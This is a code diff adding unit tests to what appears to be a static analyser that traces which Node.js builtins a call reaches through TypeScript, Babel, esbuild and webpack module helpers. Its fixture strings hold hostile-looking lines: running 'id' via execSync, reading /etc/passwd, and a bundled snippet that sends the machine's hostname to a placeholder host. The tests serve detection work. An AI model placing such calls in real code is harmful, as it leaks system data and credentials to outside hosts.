@@ -31,6 +31,32 @@ describe('resolving what a call runs', () => {
     expect(a.sourceType).toBe('module');
   });
 
+  it("sees through compilers' module interop helpers (tsc, tslib, Babel, esbuild)", () => {
+    const a = ast(`var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
+const https_1 = __importDefault(require("https"));
+const cp = tslib_1.__importStar(require("child_process"));
+const os = _interopRequireDefault(require("os")).default;
+const fs = __toESM(require("fs"));
+https_1.default.request({ hostname: 'x.example' });
+(0, cp.execSync)('id');
+os.hostname();
+fs.readFileSync('/etc/passwd');
+`);
+    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['https.request', 'child_process.execSync', 'os.hostname', 'fs.readFileSync']));
+  });
+
+  it("resolves a webpack or ncc bundle's require of a module that re-exports a builtin", () => {
+    const a = ast(`(() => { var __webpack_modules__ = ({
+/***/ 37: ((module) => { "use strict"; module.exports = require("os"); }),
+/***/ "./node_modules/x/https.js": (function (module) { module.exports = require('https'); }),
+/***/ 100: ((m, e, __webpack_require__) => { const os = __webpack_require__(37); const https = __webpack_require__("./node_modules/x/https.js"); https.get('https://x.example/?h=' + os.hostname()); })
+}); function __webpack_require__(id) { return {}; } __webpack_require__(100); })();
+`);
+    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['os.hostname', 'https.get']));
+    // An id no module re-exports stays unknown.
+    expect(ast('const x = __nccwpck_require__(999); x.exec("id");').calls.map((c) => c.callee)).not.toContain('child_process.exec');
+  });
+
   it('builds command strings from concatenation, template literals, joins and argv arrays', () => {
     expect(
       commands("const { execSync } = require('child_process');\nconst tool = 'np' + 'm';\nexecSync(`${tool} publish --tag ${process.argv[2]}`);\nexecSync(['npm', 'version'].join(' '));\nrequire('child_process').spawn(tool, ['pub' + 'lish', '--access', 'public']);\n"),
